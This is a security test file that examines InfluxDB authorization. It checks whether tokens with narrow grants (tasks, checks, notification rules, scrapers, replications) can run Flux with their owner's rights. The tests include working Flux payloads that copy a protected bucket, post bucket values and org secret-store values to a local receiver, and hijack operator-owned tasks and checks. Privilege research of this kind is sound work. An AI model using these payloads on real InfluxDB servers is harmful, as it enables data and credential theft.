// Which grants let a token's holder make influxd run Flux, or contact URLs, with the rights of the
// token's OWNER (through org membership) instead of the token's own. Each test uses a token that
// holds only the grant under test, owned by a user who is an org member or an org owner, and then
// reads back, as the operator, what influxd actually did. Findings: docs/code-running-grants.md.
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startInfluxd, writeLine, type InfluxInstance } from '../../scripts/influxd/harness';
import {
  bucketRows,
  call,
  createBucket,
  createOrgUser,
  grant,
  mintFor,
  operatorCall,
  startReceiver,
  taskRuns,
  waitForRun,
  waitUntil,
  type OrgRole,
  type Receiver,
} from './support/code-running-world';

// A value that exists only in the `secret` bucket: seeing it anywhere else proves a read of it.
const SECRET_VALUE = '4242.5';
// A value kept in the org's secret store (what endpoints and Flux `secrets.get` use).
const ORG_SECRET = 'org-secret-store-value';

let inst: InfluxInstance;
let rx: Receiver;
const users = {} as Record<OrgRole, string>;

beforeAll(async () => {
  // Scrapers answer with a metric named after the query's `who`, so each scrape is traceable.
  rx = await startReceiver((r) =>
    r.path === '/metrics'
      ? {
          status: 200,
          contentType: 'text/plain; version=0.0.4',
          body: `# TYPE scraped_${r.query.get('who')} gauge\nscraped_${r.query.get('who')} 1\n`,
        }
      : { status: 204 },
  );
  inst = await startInfluxd();
  await createBucket(inst, 'secret');
  await createBucket(inst, 'loot');
  // A minute in the past: a manual run's now() is its scheduled second, and range() excludes its stop.
  expect(await writeLine(inst, inst.operatorToken, 'secret', `vault,k=a v=${SECRET_VALUE} ${Math.floor(Date.now() / 1000) - 60}`)).toBe(
    204,
  );
  users.member = await createOrgUser(inst, 'org-member', 'member');
  users.owner = await createOrgUser(inst, 'org-owner', 'owner');
  users.none = await createOrgUser(inst, 'no-membership', 'none');
  expect((await operatorCall(inst, 'PATCH', `/api/v2/orgs/${inst.orgID}/secrets`, { apikey: ORG_SECRET })).status).toBe(204);
});

afterAll(async () => {
  await inst?.stop();
  await rx?.close();
});

const secretID = async () =>
  (await operatorCall(inst, 'GET', `/api/v2/buckets?orgID=${inst.orgID}&name=secret`)).body.buckets[0].id as string;
const lootRowsBy = async (by: string) => (await bucketRows(inst, 'loot')).filter((r) => r.by === by);
const postsTo = (path: string) => rx.requests.filter((r) => r.method === 'POST' && r.path === path);

/** Flux that copies the secret bucket into `loot`, tagged so the copy is attributable. */
const copyFlux = (by: string) => `from(bucket: "secret") |> range(start: -1h) |> set(key: "by", value: "${by}") |> to(bucket: "loot")`;
/** Flux that sends the org secret `apikey` to the receiver: needs read on secrets. */
const secretStoreFlux = (path: string) =>
  `array.from(rows: [{s: http.post(url: "${rx.url}${path}", data: bytes(v: secrets.get(key: "apikey")))}])`;
const SECRET_IMPORTS = 'import "http"\nimport "array"\nimport "influxdata/influxdb/secrets"\n';
/** Flux that sends each secret value to the receiver: needs read on the bucket, no write anywhere. */
const exfilFlux = (path: string) =>
  `from(bucket: "secret") |> range(start: -1h) |> map(fn: (r) => ({r with posted: http.post(url: "${rx.url}${path}", data: bytes(v: string(v: r._value)))}))`;

/** A custom check is a task whose whole Flux is the check's query text; it runs on its own schedule. */
const customCheckText = (name: string, body: string, imports = '') =>
  `${imports}option task = {name: "${name}", every: 1s, offset: 0s}\ncheck = {_check_id: "x", _check_name: "${name}", _type: "custom", tags: {}}\n${body}`;

async function createAndRunTask(token: string, name: string, body: string, imports = '') {
  const created = await call(inst, token, 'POST', '/api/v2/tasks', {
    orgID: inst.orgID,
    flux: `${imports}option task = {name: "${name}", every: 1h}\n${body}`,
  });
  expect(created.status).toBe(201);
  const run = await call(inst, token, 'POST', `/api/v2/tasks/${created.body.id}/runs`, {});
  expect(run.status).toBe(201);
  // write:tasks alone cannot read its runs back (500), so the operator watches the run.
  const outcome = await waitForRun(inst, inst.operatorToken, created.body.id, run.body.id);
  return { task: created.body, ...outcome };
}

async function tokenCannotReadSecret(token: string) {
  const direct = await call(inst, token, 'POST', `/api/v2/query?orgID=${inst.orgID}`, {
    query: 'from(bucket: "secret") |> range(start: -1h)',
    type: 'flux',
  });
  expect([direct.status, direct.body.message]).toEqual([404, 'failed to initialize execute state: could not find bucket "secret"']);
}

describe('tasks: write:tasks alone runs Flux with the owner’s org rights', () => {
  it('owned by an org OWNER: the task copies a bucket the token cannot read into another bucket', async () => {
    const token = await mintFor(inst, users.owner, [grant(inst, 'write', 'tasks')]);
    await tokenCannotReadSecret(token);
    const run = await createAndRunTask(token, 'copy-as-owner', copyFlux('task-owner'));
    expect(run.task.ownerID).toBe(users.owner);
    expect(run.status).toBe('success');
    const rows = await lootRowsBy('task-owner');
    expect(rows.map((r) => r._value)).toEqual([SECRET_VALUE]);
  });

  it('owned by an org MEMBER: the task reads every bucket (sends it to a URL) but cannot write one', async () => {
    const token = await mintFor(inst, users.member, [grant(inst, 'write', 'tasks')]);
    await tokenCannotReadSecret(token);
    const copy = await createAndRunTask(token, 'copy-as-member', copyFlux('task-member'));
    expect(copy.status).toBe('failed');
    expect(copy.log.join('\n')).toContain('user not authorized to write');
    expect(await lootRowsBy('task-member')).toEqual([]);

    const exfil = await createAndRunTask(token, 'exfil-as-member', exfilFlux('/task-member'), 'import "http"\n');
    expect(exfil.status).toBe('success');
    expect(postsTo('/task-member').map((r) => r.body)).toEqual([SECRET_VALUE]);

    const secrets = await createAndRunTask(token, 'secrets-as-member', secretStoreFlux('/task-member-secrets'), SECRET_IMPORTS);
    expect(secrets.status).toBe('success');
    expect(postsTo('/task-member-secrets').map((r) => r.body)).toEqual([ORG_SECRET]);
  });

  it('owned by a user with NO membership (as the console harness creates it): no bucket is readable or writable', async () => {
    const token = await mintFor(inst, users.none, [grant(inst, 'write', 'tasks')]);
    const copy = await createAndRunTask(token, 'copy-as-nobody', copyFlux('task-nobody'));
    expect(copy.status).toBe('failed');
    expect(copy.log.join('\n')).toContain('could not find bucket "secret"');
    expect(await lootRowsBy('task-nobody')).toEqual([]);

    const exfil = await createAndRunTask(token, 'exfil-as-nobody', exfilFlux('/task-nobody'), 'import "http"\n');
    expect(exfil.status).toBe('failed');
    expect(postsTo('/task-nobody')).toEqual([]);

    const secrets = await createAndRunTask(token, 'secrets-as-nobody', secretStoreFlux('/task-nobody-secrets'), SECRET_IMPORTS);
    expect(secrets.status).toBe('failed');
    expect(secrets.log.join('\n')).toContain(`read:orgs/${inst.orgID}/secrets is unauthorized`);
    expect(postsTo('/task-nobody-secrets')).toEqual([]);

    // What stays: Flux that needs no rights, e.g. an HTTP call (see the next describe: any token can).
    const ping = await createAndRunTask(
      token,
      'ping-as-nobody',
      `array.from(rows: [{s: http.post(url: "${rx.url}/ping-nobody", data: bytes(v: "ping"))}])`,
      'import "http"\nimport "array"\n',
    );
    expect(ping.status).toBe('success');
    expect(postsTo('/ping-nobody').map((r) => r.body)).toEqual(['ping']);
  });
});

describe('editing keeps the original owner: write on tasks or checks borrows the rights of whoever owns an existing one', () => {
  it('a token owned by a NON-member, holding write on that ONE task only, rewrites the operator’s task and runs it with the operator’s org rights', async () => {
    const own = await operatorCall(inst, 'POST', '/api/v2/tasks', {
      orgID: inst.orgID,
      flux: 'option task = {name: "operator-task", every: 1h}\n1',
    });
    expect(own.body.ownerID).toBe(inst.operatorUserID);
    const token = await mintFor(inst, users.none, [grant(inst, 'write', 'tasks', own.body.id)]);
    const edited = await call(inst, token, 'PATCH', `/api/v2/tasks/${own.body.id}`, {
      flux: `option task = {name: "operator-task", every: 1h}\n${copyFlux('task-hijack')}`,
    });
    expect([edited.status, edited.body.ownerID]).toEqual([200, inst.operatorUserID]);
    const run = await call(inst, token, 'POST', `/api/v2/tasks/${own.body.id}/runs`, {});
    expect(run.status).toBe(201);
    expect((await waitForRun(inst, inst.operatorToken, own.body.id, run.body.id)).status).toBe('success');
    expect((await lootRowsBy('task-hijack')).map((r) => r._value)).toEqual([SECRET_VALUE]);
  });

  it('a token owned by a NON-member, holding read+write:checks, rewrites the operator’s check; its schedule then copies the secret bucket', async () => {
    const name = 'operator-check';
    const own = await operatorCall(inst, 'POST', '/api/v2/checks', {
      type: 'custom',
      name,
      orgID: inst.orgID,
      status: 'active',
      query: { text: customCheckText(name, '1') },
    });
    expect([own.status, own.body.ownerID]).toEqual([201, inst.operatorUserID]);
    try {
      const token = await mintFor(inst, users.none, [grant(inst, 'write', 'checks'), grant(inst, 'read', 'checks')]);
      const edited = await call(inst, token, 'PUT', `/api/v2/checks/${own.body.id}`, {
        ...own.body,
        query: { text: customCheckText(name, copyFlux('check-hijack')) },
      });
      expect(edited.status).toBe(200);
      const task = (await operatorCall(inst, 'GET', `/api/v2/tasks/${own.body.taskID}`)).body;
      expect(task.ownerID).toBe(inst.operatorUserID);
      const rows = await waitUntil(
        'the hijacked check’s copy in loot',
        async () => {
          const r = await lootRowsBy('check-hijack');
          return r.length > 0 ? r : undefined;
        },
        30_000,
      );
      expect(rows.map((r) => r._value)).toEqual([SECRET_VALUE]);
    } finally {
      await operatorCall(inst, 'DELETE', `/api/v2/checks/${own.body.id}`);
    }
  });
});

describe('baseline: contacting a URL needs no grant at all', () => {
  it('a token holding only read:dashboards makes influxd POST (Flux http.post) and GET (templates/apply) to a URL', async () => {
    const token = await mintFor(inst, users.none, [grant(inst, 'read', 'dashboards')]);
    const q = await call(inst, token, 'POST', `/api/v2/query?orgID=${inst.orgID}`, {
      type: 'flux',
      query: `import "array"\nimport "http"\narray.from(rows: [{s: http.post(url: "${rx.url}/from-query", data: bytes(v: "q"))}])`,
    });
    expect(q.status).toBe(200);
    expect(postsTo('/from-query').map((r) => r.body)).toEqual(['q']);

    const apply = await call(inst, token, 'POST', '/api/v2/templates/apply', {
      orgID: inst.orgID,
      dryRun: true,
      remotes: [{ url: `${rx.url}/template.yml` }],
    });
    expect(apply.status).toBe(200);
    expect(rx.requests.filter((r) => r.method === 'GET' && r.path === '/template.yml')).toHaveLength(1);
  });
});

describe('checks: write:checks alone schedules Flux that runs with the owner’s org rights', () => {
  it('owned by an org OWNER: the check’s task copies the secret bucket every second, and goes on after the token is deleted', async () => {
    const auth = await operatorCall(inst, 'POST', '/api/v2/authorizations', {
      orgID: inst.orgID,
      userID: users.owner,
      permissions: [grant(inst, 'write', 'checks')],
    });
    const check = await call(inst, auth.body.token, 'POST', '/api/v2/checks', {
      type: 'custom',
      name: 'check-owner',
      orgID: inst.orgID,
      status: 'active',
      query: { text: customCheckText('check-owner', copyFlux('check-owner')) },
    });
    expect(check.status).toBe(201);
    expect((await operatorCall(inst, 'DELETE', `/api/v2/authorizations/${auth.body.id}`)).status).toBe(204);
    try {
      const task = (await operatorCall(inst, 'GET', `/api/v2/tasks/${check.body.taskID}`)).body;
      expect([task.ownerID, task.status, task.every]).toEqual([users.owner, 'active', '1s']);
      expect(task.flux).toContain('from(bucket: "secret")');
      const rows = await waitUntil(
        'the check’s copy in loot',
        async () => {
          const r = await lootRowsBy('check-owner');
          return r.length > 0 ? r : undefined;
        },
        30_000,
      );
      expect(rows.map((r) => r._value)).toEqual([SECRET_VALUE]);
    } finally {
      await operatorCall(inst, 'DELETE', `/api/v2/checks/${check.body.id}`);
    }
  });

  it('owned by an org MEMBER: the check’s task reads the secret bucket and sends it to a URL', async () => {
    const token = await mintFor(inst, users.member, [grant(inst, 'write', 'checks')]);
    await tokenCannotReadSecret(token);
    const check = await call(inst, token, 'POST', '/api/v2/checks', {
      type: 'custom',
      name: 'check-member',
      orgID: inst.orgID,
      status: 'active',
      query: { text: customCheckText('check-member', exfilFlux('/check-member'), 'import "http"\n') },
    });
    expect(check.status).toBe(201);
    try {
      expect((await operatorCall(inst, 'GET', `/api/v2/tasks/${check.body.taskID}`)).body.ownerID).toBe(users.member);
      const posted = await waitUntil('the check’s POST', () => postsTo('/check-member')[0], 30_000);
      expect(posted.body).toBe(SECRET_VALUE);
    } finally {
      await operatorCall(inst, 'DELETE', `/api/v2/checks/${check.body.id}`);
    }
  });
});

/** A critical status in _monitoring, as a check would write it; the rules below notify on it. */
const writeCritStatus = () =>
  writeLine(
    inst,
    inst.operatorToken,
    '_monitoring',
    `statuses,_check_id=0000000000000009,_check_name=probe,_level=crit,_source_measurement=m,_type=custom _message="boom",_source_timestamp=${Date.now()}000000i ${Math.floor(Date.now() / 1000)}`,
  );

/** An HTTP endpoint (bearer secret kept in the org's secret store) made by a token holding write+read:notificationEndpoints. */
async function createEndpoint(ownerID: string, path: string) {
  const token = await mintFor(inst, ownerID, [grant(inst, 'write', 'notificationEndpoints'), grant(inst, 'read', 'notificationEndpoints')]);
  const endpoint = await call(inst, token, 'POST', '/api/v2/notificationEndpoints', {
    type: 'http',
    name: `endpoint${path.replaceAll('/', '-')}`,
    orgID: inst.orgID,
    status: 'active',
    url: `${rx.url}${path}`,
    method: 'POST',
    authMethod: 'bearer',
    token: 'endpoint-stored-credential',
  });
  expect(endpoint.status).toBe(201);
  return { token, endpoint: endpoint.body };
}

async function createRule(ownerID: string, endpointID: string, name: string) {
  const token = await mintFor(inst, ownerID, [grant(inst, 'write', 'notificationRules')]);
  // The rule's token cannot even read the endpoint it sends through.
  expect((await call(inst, token, 'GET', `/api/v2/notificationEndpoints/${endpointID}`)).status).toBe(401);
  const rule = await call(inst, token, 'POST', '/api/v2/notificationRules', {
    type: 'http',
    name,
    orgID: inst.orgID,
    endpointID,
    status: 'active',
    every: '1s',
    offset: '0s',
    statusRules: [{ currentLevel: 'CRIT' }],
    tagRules: [],
  });
  expect(rule.status).toBe(201);
  const task = (await operatorCall(inst, 'GET', `/api/v2/tasks/${rule.body.taskID}`)).body;
  expect(task.ownerID).toBe(ownerID);
  expect(task.flux).toContain('monitor["from"]'); // reads _monitoring with the owner's rights
  expect(task.flux).toContain(`http["endpoint"](url: "${rx.url}`);
  return rule.body;
}

describe('notification rules and endpoints', () => {
  it('owned by an org OWNER: write:notificationRules alone makes influxd POST statuses, with the endpoint’s stored credential; an endpoint edit does not move it', async () => {
    const { token: endpointToken, endpoint } = await createEndpoint(users.owner, '/rule-owner');
    const rule = await createRule(users.owner, endpoint.id, 'rule-owner');
    try {
      const first = await waitUntil(
        'a notification POST',
        async () => {
          await writeCritStatus();
          return postsTo('/rule-owner')[0];
        },
        30_000,
        300,
      );
      expect(first.authorization).toBe('Bearer endpoint-stored-credential');
      expect(JSON.parse(first.body)).toMatchObject({ _check_name: 'probe', _level: 'crit', _notification_rule_name: 'rule-owner' });

      // The rule's Flux holds the URL it was created with: a later endpoint edit (write+read on
      // notificationEndpoints) does not redirect it. Wait for a POST made after the edit.
      const moved = await call(inst, endpointToken, 'PUT', `/api/v2/notificationEndpoints/${endpoint.id}`, {
        ...endpoint,
        url: `${rx.url}/moved`,
        token: 'endpoint-stored-credential',
      });
      expect(moved.status).toBe(200);
      const before = postsTo('/rule-owner').length;
      await waitUntil(
        'a POST after the endpoint edit',
        async () => {
          await writeCritStatus();
          return postsTo('/rule-owner').length > before ? true : undefined;
        },
        30_000,
        300,
      );
      expect(postsTo('/moved')).toEqual([]);
    } finally {
      await operatorCall(inst, 'DELETE', `/api/v2/notificationRules/${rule.id}`);
    }
  });

  it('owned by an org MEMBER: the rule’s task runs but fails before sending (it must write _monitoring)', async () => {
    const { endpoint } = await createEndpoint(users.member, '/rule-member');
    const rule = await createRule(users.member, endpoint.id, 'rule-member');
    try {
      const failed = await waitUntil(
        'a failed run of the member’s rule',
        async () => {
          await writeCritStatus();
          return (await taskRuns(inst, rule.taskID)).find((r) => r.status === 'failed');
        },
        30_000,
        300,
      );
      expect(failed.log.join('\n')).toContain('not authorized to write');
      expect(postsTo('/rule-member')).toEqual([]);
    } finally {
      await operatorCall(inst, 'DELETE', `/api/v2/notificationRules/${rule.id}`);
    }
  });
});

describe('scrapers: influxd fetches a URL every 10 s and writes it into a bucket the TOKEN may write', () => {
  it('member and owner alike: refused without write on the bucket; with it, scraping goes on after the token is deleted', async () => {
    const loot = (await operatorCall(inst, 'GET', `/api/v2/buckets?orgID=${inst.orgID}&name=loot`)).body.buckets[0].id as string;
    const targets: string[] = [];
    try {
      for (const role of ['member', 'owner'] as const) {
        const auth = await operatorCall(inst, 'POST', '/api/v2/authorizations', {
          orgID: inst.orgID,
          userID: users[role],
          permissions: [grant(inst, 'write', 'scrapers'), grant(inst, 'write', 'buckets', loot)],
        });
        const token = auth.body.token as string;
        const refused = await call(inst, token, 'POST', '/api/v2/scrapers', {
          name: `s-${role}-secret`,
          type: 'prometheus',
          url: `${rx.url}/metrics?who=x`,
          orgID: inst.orgID,
          bucketID: await secretID(),
        });
        expect([refused.status, refused.body.message]).toEqual([
          401,
          `write:orgs/${inst.orgID}/buckets/${await secretID()} is unauthorized`,
        ]);
        const target = await call(inst, token, 'POST', '/api/v2/scrapers', {
          name: `s-${role}`,
          type: 'prometheus',
          url: `${rx.url}/metrics?who=${role}`,
          orgID: inst.orgID,
          bucketID: loot,
        });
        expect(target.status).toBe(201);
        targets.push(target.body.id);
        expect((await operatorCall(inst, 'DELETE', `/api/v2/authorizations/${auth.body.id}`)).status).toBe(204);
      }
      await waitUntil(
        'both scrapes in loot',
        async () => {
          const m = new Set((await bucketRows(inst, 'loot')).map((r) => r._measurement));
          return m.has('scraped_member') && m.has('scraped_owner') ? m : undefined;
        },
        40_000,
        500,
      );
      expect(rx.requests.filter((r) => r.path === '/metrics').map((r) => r.method)).toContain('GET');
    } finally {
      for (const id of targets) await operatorCall(inst, 'DELETE', `/api/v2/scrapers/${id}`);
    }
  });
});

describe('remotes + replications: influxd pushes every new write of a bucket the TOKEN can read to a URL, with a stored credential', () => {
  // The receiver tells the two replications apart by the remote bucket id in the write URL.
  const REMOTE_BUCKET = { member: '00000000000000a1', owner: '00000000000000a2' };

  it('member and owner alike: refused without read on the bucket; with it, the push goes on after the token is deleted', async () => {
    const secret = await secretID();
    const replications: string[] = [];
    try {
      for (const role of ['member', 'owner'] as const) {
        const base = [grant(inst, 'write', 'remotes'), grant(inst, 'read', 'remotes'), grant(inst, 'write', 'replications')];
        const noRead = await mintFor(inst, users[role], base);
        const remote = await call(inst, noRead, 'POST', '/api/v2/remotes', {
          name: `remote-${role}`,
          orgID: inst.orgID,
          remoteURL: rx.url,
          remoteAPIToken: 'remote-stored-credential',
          remoteOrgID: '0000000000000001',
          allowInsecureTLS: false,
        });
        expect(remote.status).toBe(201);
        const replication = {
          name: `repl-${role}`,
          orgID: inst.orgID,
          remoteID: remote.body.id,
          localBucketID: secret,
          remoteBucketID: REMOTE_BUCKET[role],
          maxQueueSizeBytes: 67108860,
        };
        const refused = await call(inst, noRead, 'POST', '/api/v2/replications', replication);
        expect([refused.status, refused.body.message]).toEqual([401, `read:orgs/${inst.orgID}/buckets/${secret} is unauthorized`]);

        const auth = await operatorCall(inst, 'POST', '/api/v2/authorizations', {
          orgID: inst.orgID,
          userID: users[role],
          permissions: [...base, grant(inst, 'read', 'buckets', secret)],
        });
        const created = await call(inst, auth.body.token, 'POST', '/api/v2/replications', replication);
        expect(created.status).toBe(201);
        replications.push(created.body.id);
        expect((await operatorCall(inst, 'DELETE', `/api/v2/authorizations/${auth.body.id}`)).status).toBe(204);
      }
      expect(await writeLine(inst, inst.operatorToken, 'secret', `vault,k=new v=99 ${Math.floor(Date.now() / 1000)}`)).toBe(204);
      for (const role of ['member', 'owner'] as const) {
        const push = await waitUntil(
          `the ${role}'s replication push`,
          () => postsTo('/api/v2/write').find((r) => r.query.get('bucket') === REMOTE_BUCKET[role]),
          30_000,
        );
        expect(push.authorization).toBe('Token remote-stored-credential');
        expect(gunzipSync(push.raw).toString('utf8')).toContain('vault,k=new v=99');
      }
    } finally {
      for (const id of replications) await operatorCall(inst, 'DELETE', `/api/v2/replications/${id}`);
    }
  });
});

describe('sources: a stored URL that influxd 2.9.1 never contacts', () => {
  it('member and owner alike: query, health and buckets of a source answer locally; nothing reaches the URL', async () => {
    for (const role of ['member', 'owner'] as const) {
      const token = await mintFor(inst, users[role], [grant(inst, 'write', 'sources'), grant(inst, 'read', 'sources')]);
      for (const type of ['v1', 'v2']) {
        const source = await call(inst, token, 'POST', '/api/v2/sources', {
          name: `src-${role}-${type}`,
          type,
          url: `${rx.url}/source-${role}-${type}`,
          orgID: inst.orgID,
        });
        expect(source.status).toBe(201);
        await call(inst, token, 'POST', `/api/v2/sources/${source.body.id}/query`, {
          query: 'buckets()',
          type: 'flux',
          organizationID: inst.orgID,
        });
        await call(inst, token, 'POST', `/api/v2/sources/${source.body.id}/query`, {
          query: 'SHOW DATABASES',
          type: 'influxql',
          db: 'x',
          organizationID: inst.orgID,
        });
        expect((await call(inst, token, 'GET', `/api/v2/sources/${source.body.id}/health`)).status).toBe(200);
        expect((await call(inst, token, 'GET', `/api/v2/sources/${source.body.id}/buckets`)).status).toBe(200);
      }
    }
    expect(rx.requests.filter((r) => r.path.startsWith('/source-'))).toEqual([]);
  });

  it('but read:sources hands out the credential a source stores (unlike endpoints, which keep it in the secret store)', async () => {
    const writer = await mintFor(inst, users.owner, [grant(inst, 'write', 'sources')]);
    expect(
      (
        await call(inst, writer, 'POST', '/api/v2/sources', {
          name: 'src-with-token',
          type: 'v2',
          url: `${rx.url}/source-x`,
          orgID: inst.orgID,
          token: 'source-stored-credential',
        })
      ).status,
    ).toBe(201);
    const reader = await mintFor(inst, users.none, [grant(inst, 'read', 'sources')]);
    const list = await call(inst, reader, 'GET', '/api/v2/sources');
    expect(list.status).toBe(200);
    expect(list.body.sources.find((x: { name: string }) => x.name === 'src-with-token').token).toBe('source-stored-credential');
  });
});
